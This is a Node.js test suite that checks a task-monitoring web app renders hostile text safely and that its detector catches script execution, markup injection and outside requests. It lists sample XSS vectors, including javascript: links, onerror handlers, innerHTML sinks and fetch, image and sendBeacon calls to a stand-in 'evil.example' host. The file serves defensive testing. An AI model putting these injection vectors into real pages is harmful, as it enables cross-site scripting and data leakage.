// Hostile text in every place that shows text: nothing runs, nothing is fetched, nothing is drawn that the page is not made
// of, with the page's policy and without it. The same look at a renderer that is not safe finds thousands.
import assert from "node:assert/strict";
import { rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";

import { startBrowser } from "../support/browser.mjs";
import { walkUnsafely } from "../support/hostile-control.mjs";
import { WRAPPINGS, payloads, sample } from "../support/hostile-data.mjs";
import { writeConfig, writeHome } from "../support/hostile-home.mjs";
import { assertAlive, glance, inventory, isLiteral, walkPages, walkPanel, walkThread, walkWords } from "../support/hostile-walk.mjs";
import { ALONE, openWatched } from "../support/hostile-watch.mjs";
import { FIXTURE_NOW, eventually, startMonitor } from "../support/monitor.mjs";
import { idle } from "../support/verbs.mjs";

/** The long form of the proof: every text in every wrapping, then every text in every other field, a home for each so many. */
const LONG = process.env.TASK_HUB_SOAK === "1";
const all = payloads();
const parts = (size) => Array.from({ length: Math.ceil(all.length / size) }, (_, n) => all.slice(n * size, (n + 1) * size));
/** What is said as messages, and what stands in the other fields, home by home. */
const messages = LONG ? parts(1_000) : [sample(all, 90)];
const batches = LONG
  ? [...messages.map((part) => [part, part.slice(0, 1)]), ...parts(400).map((part) => [part.slice(0, 1), part])]
  : messages.map((part) => [part, part.filter((_, n) => n % 10 === 0)]);

let browser;
before(async () => {
  browser = await startBrowser(ALONE);
});
after(async () => {
  await browser?.close();
});

/** A monitor over a home that holds these texts, and what it tells of them. */
async function open([said, fields], n) {
  const config = path.join(os.tmpdir(), `task-hub-hostile-${process.pid}-${n}.toml`);
  await writeConfig(config, fields.map((payload) => payload.text));
  const monitor = await startMonitor({ story: null, args: ["--config", config] });
  const stop = async () => {
    await monitor.stop();
    await rm(config, { force: true });
  };
  try {
    await monitor.halt();
    const written = await writeHome(monitor.home, said.map((payload) => payload.text), fields.map((payload) => payload.text));
    await monitor.start();
    let before = -1;
    await eventually("all events and tasks are read", async () => {
      const [events, tasks] = [await monitor.get("/api/v2/events?limit=1"), await monitor.get("/api/v2/tasks?limit=500")];
      const still = events.total === before;
      before = events.total;
      // A kind of event that is nothing but white space makes a bad line of it, and a bad line may hold an event.
      return still && events.total >= written.events * 0.99 && tasks.tasks.length >= Math.min(500, written.tasks);
    });
    return { monitor, there: await inventory(monitor), stop };
  } catch (error) {
    await stop();
    throw error;
  }
}

const talks = ({ sessions }) => sessions.map((session) => session.workSessionId).filter((id) => id.startsWith("ws_talk_"));
const threadOf = (talk) => talk.replace("ws_talk_", "conv:talk-");

test("the texts are as many as the lists they come from say, each of them once", () => {
  const count = (from) => all.filter((payload) => payload.from === from).length;
  assert.deepEqual([count("brs-kb"), count("blns")], [4_462, 464]);
  assert.ok(count("own") >= 110, `${count("own")} of our own`);
  assert.equal(new Set(all.map((payload) => payload.text)).size, all.length);
  assert.equal(sample(all, 90).filter((payload) => payload.from === "own").length, count("own"), "the short form has all our own");
  assert.ok(all.filter((payload) => isLiteral(payload.text)).length > 500, "many are shown letter by letter");
});

test("an innocent home is drawn of what is allowed, and the detector is silent about it", async () => {
  const monitor = await startMonitor();
  try {
    const watched = await openWatched(browser, { url: monitor.url, csp: true, now: FIXTURE_NOW });
    await idle(watched.page);
    const there = await inventory(monitor);
    if (LONG) await walkPages(watched, monitor, there, { each: 12, since: FIXTURE_NOW - 48 * 3_600_000 });
    else await glance(watched);
    const [session] = there.sessions;
    const { threads } = await monitor.get(`/api/v2/sessions/${session.workSessionId}`);
    assert.ok((await walkThread(watched, monitor, session.workSessionId, threads[0].threadId)).messages.length > 0);
    await assertAlive(watched);
    assert.deepEqual(watched.findings, []);
    await watched.context.close();
  } finally {
    await monitor.stop();
  }
});

test("hostile text in every field runs nothing, loads nothing and adds nothing, with and without the page's policy", async () => {
  const sum = { texts: 0, named: 0, messages: 0, literal: 0, sessions: 0, requests: 0 };
  for (const [n, batch] of batches.entries()) {
    const { monitor, there, stop } = await open(batch, n);
    try {
      const taught = await monitor.get("/api/v2/classifier/config");
      assert.ok(taught.trouble === undefined && taught.config.agents.length > 0, `the file of taught words is in force: ${taught.trouble}`);
      await Promise.all([true, false].map(async (csp) => {
        const watched = await openWatched(browser, { url: monitor.url, csp, now: FIXTURE_NOW });
        const told = () => `${csp ? "with" : "without"} the policy, at ${watched.at}, home ${n}`;
        try {
          await idle(watched.page);
          let drawn = 0;
          for (const talk of talks(there)) {
            const { messages: said, literal } = await walkThread(watched, monitor, talk, threadOf(talk));
            drawn += said.length;
            sum.literal += literal;
          }
          assert.equal(drawn, batch[0].length * Object.keys(WRAPPINGS).length, "every text in every wrapping is a message");
          const each = LONG ? 6 : 2;
          const took = await walkPages(watched, monitor, there, { each, since: FIXTURE_NOW - 11 * 3_600_000 });
          await walkWords(watched, batch[1].filter((_, place) => place % Math.ceil(batch[1].length / each) === 0).map((payload) => payload.text));
          assert.ok((await walkPanel(watched)) > 0, "lines that are no event are shown");
          await assertAlive(watched);
          if (LONG || process.env.TASK_HUB_TIMES) console.log(`home ${n}, ${csp ? "with" : "without"} policy: ${drawn} messages, ${there.sessions.length} sessions, ms ${JSON.stringify(took)}`);
          sum.messages += drawn;
          sum.requests += watched.requests;
        } catch (error) {
          throw new Error(`${told()}: ${error.message}; found ${JSON.stringify(watched.findings.slice(0, 20))}`, { cause: error });
        }
        assert.deepEqual(watched.findings, [], told());
        await watched.context.close();
      }));
      sum.texts += batch[0].length;
      sum.named += batch[1].length;
      sum.sessions += there.sessions.length;
    } finally {
      await stop();
    }
  }
  console.log(`${sum.texts} texts said, ${sum.named} in every other field, ${sum.sessions} sessions, ${sum.messages} messages drawn (${sum.literal} compared letter by letter), ${sum.requests} requests, all to the monitor`);
});

/** What a text could do if it got the chance, and how the detector names it. */
const WAYS = {
  ran: ["alert(1)", "confirm(1)", "prompt(1)", "print()", "open('about:blank')", "eval('1 + 1')", "new Function('return 1')()", "Function('return 1')()", "setTimeout('void 0')", "setInterval('void 0', 1e6)"],
  script: ["add('script').append('void 0')", "add('button', { onclick: 'void 0' }).click()", "add('a', { href: 'javascript:void 0' }).click()", "add('img', { onerror: 'void 0', src: 'data:,' })", "add('script', { src: 'data:,void 0' })"],
  markup: ["add('p').innerHTML = '<b>never built</b>'"],
  sink: [
    "add('p').outerHTML = '<b></b>'", "add('p').insertAdjacentHTML('beforeend', '<b></b>')", "add('p').setHTMLUnsafe('<b></b>')", "new DOMParser().parseFromString('<b></b>', 'text/html')", "new Range().createContextualFragment('<b></b>')",
    "Document.parseHTMLUnsafe('<b></b>')", "document.implementation.createHTMLDocument().write('<b></b>')", "document.execCommand('insertHTML', false, '<b></b>')", "document.createElement('iframe').srcdoc = '<b></b>'", "document.createElement('script').text = 'void 0'", "add('div').attachShadow({ mode: 'open' })",
  ],
  element: ["add('iframe')", "add('object')", "add('style')", "add('marquee')", "add('form').append(document.createElement('textarea'))", "add('svg:use')", "add('svg:foreignObject')", "add('math:math')"],
  attribute: ["add('a', { ping: '/x' })", "add('p', { contenteditable: '' })", "add('button', { formaction: '/x' })", "add('img', { srcset: '/x' })"],
  handler: ["add('p', { onmouseover: '1' })", "document.querySelector('main').setAttribute('onfocus', '1')"],
  style: ["add('p', { style: 'background: url(/x)' })"],
  class: ["add('p', { class: 'a\\\"onclick=1' })"],
  clobber: ["add('p', { id: '__proto__' })", "add('p', { id: 'body' })", "add('input', { name: 'cookie' })"],
  link: ["add('a', { href: 'javascript:1' })", "add('a', { href: 'java\\tscript:1' })", "add('a', { href: 'data:text/html,x' })", "add('a', { href: 'vbscript:1' })", "add('a', { href: 'blob:http://x/y' })", "add('svg:a', { href: 'javascript:svg' })"],
  opener: ["add('a', { href: 'https://evil.example/', target: '_blank' })", "add('a', { href: 'https://evil.example/' })"],
  source: ["add('img', { src: 'https://evil.example/x' })", "add('img', { src: 'data:text/html,x' })", "add('link', { rel: 'preload', as: 'image', href: 'https://evil.example/y' })"],
  request: ["fetch('https://evil.example/').catch(() => 0)", "fetch('/api/v2/home', { method: 'POST' }).catch(() => 0)", "fetch('/elsewhere').catch(() => 0)", "new Image().src = 'https://evil.example/pixel'", "navigator.sendBeacon('https://evil.example/b', '1')"],
  error: ["queueMicrotask(() => { throw new Error('x') })"],
  navigation: ["location.assign('/elsewhere')"],
};

test("each way in which a text could do something is noticed by itself", async () => {
  const monitor = await startMonitor({ story: "ping-pong" });
  try {
    for (const csp of [false, true]) {
      const watched = await openWatched(browser, { url: monitor.url, csp, now: FIXTURE_NOW, hold: true });
      await idle(watched.page);
      assert.deepEqual(watched.findings, [], "before anything happens nothing is found");
      await watched.page.evaluate(() => {
        const spaces = { svg: "http://www.w3.org/2000/svg", math: "http://www.w3.org/1998/Math/MathML" };
        globalThis.add = (name, attributes = {}) => {
          const [local, space] = name.split(":").reverse();
          const element = document.createElementNS(spaces[space] ?? "http://www.w3.org/1999/xhtml", local);
          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
          document.querySelector("main").append(element);
          return element;
        };
      });
      // The policy lets none of these happen; that it was needed is told.
      const ways = csp ? { policy: [...WAYS.script, "add('img', { src: 'https://evil.example/z' })", "eval('1 + 1')"] } : WAYS;
      for (const [kind, list] of Object.entries(ways)) {
        for (const way of list) {
          const before = watched.counts[kind] ?? 0;
          await watched.run(way);
          await eventually(`${kind}: ${way} is noticed`, () => (watched.counts[kind] ?? 0) > before, 10_000);
        }
      }
      await watched.context.close();
    }
  } finally {
    await monitor.stop();
  }
});

test("the same look at a renderer that is not safe finds what texts can do", async () => {
  const found = {};
  let pages = 0;
  let executions = 0;
  let count = 0;
  const homes = LONG ? messages : [sample(all, 31).filter((payload) => payload.from !== "own")];
  for (const [n, said] of homes.entries()) {
    const { monitor, there, stop } = await open([said, said.slice(0, 1)], n);
    try {
      const threads = [];
      for (const talk of talks(there)) {
        const answer = await monitor.get(`/api/v2/sessions/${talk}/threads/${encodeURIComponent(threadOf(talk))}?limit=80`);
        threads.push([`/s/${talk}/t/${encodeURIComponent(threadOf(talk))}`, answer.messages]);
        count += answer.messages.length;
      }
      const unsafe = await walkUnsafely(browser, monitor.url, threads);
      pages += unsafe.pages;
      executions += unsafe.executions;
      for (const [kind, count] of Object.entries(unsafe.counts)) found[kind] = (found[kind] ?? 0) + count;
    } finally {
      await stop();
    }
  }
  console.log(`unsafe: ${count} messages on ${pages} pages, ${executions} executions, ${JSON.stringify(found)}`);
  assert.ok(executions >= (LONG ? 2_000 : 50), `only ${executions} executions are noticed: the detector is blind`);
  for (const kind of ["script", "element", "attribute", "handler", "link", "source", "request", "markup"]) assert.ok(found[kind] > 0, `nothing of kind ${kind} is noticed`);
});
